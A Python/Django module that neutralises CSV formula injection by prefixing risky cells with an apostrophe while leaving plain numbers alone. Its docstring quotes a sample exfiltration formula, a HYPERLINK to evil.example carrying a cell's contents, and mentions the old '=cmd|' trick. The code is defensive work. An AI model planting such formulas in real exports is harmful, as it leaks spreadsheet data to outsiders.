"""Every CSV that Werkplek writes, written so that no cell can run as a spreadsheet formula.

Excel and LibreOffice treat a cell that begins with ``=``, ``+``, ``-`` or ``@``
(or with a tab or carriage return before one) as a formula: an answer such as
``=HYPERLINK("https://evil.example/?d="&A1;"Klik")`` leaks the sheet to whoever
wrote it, and ``=cmd|…`` once ran programs. Following OWASP's advice, such a cell
gets a leading ``'``, which makes the spreadsheet show it as text.

Numbers stay numbers: a Python number, and text that is nothing but a number
(``-5``, ``-12,5``, ``+3``), cannot call a function or read a cell, so it is not
touched and sorts and sums as a number in the spreadsheet.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that a spreadsheet will not evaluate."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if _PLAIN_NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, stream, *, delimiter: str = ";"):
        # ";" because Belgian Excel reads "," as the decimal separator.
        self._writer = csv.writer(stream, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """An attachment response that Excel opens as UTF-8, not cached, and its writer."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["Cache-Control"] = "no-store"
    response.write("\ufeff")  # the BOM: without it Excel reads the file as Windows-1252
    return response, SafeWriter(response)
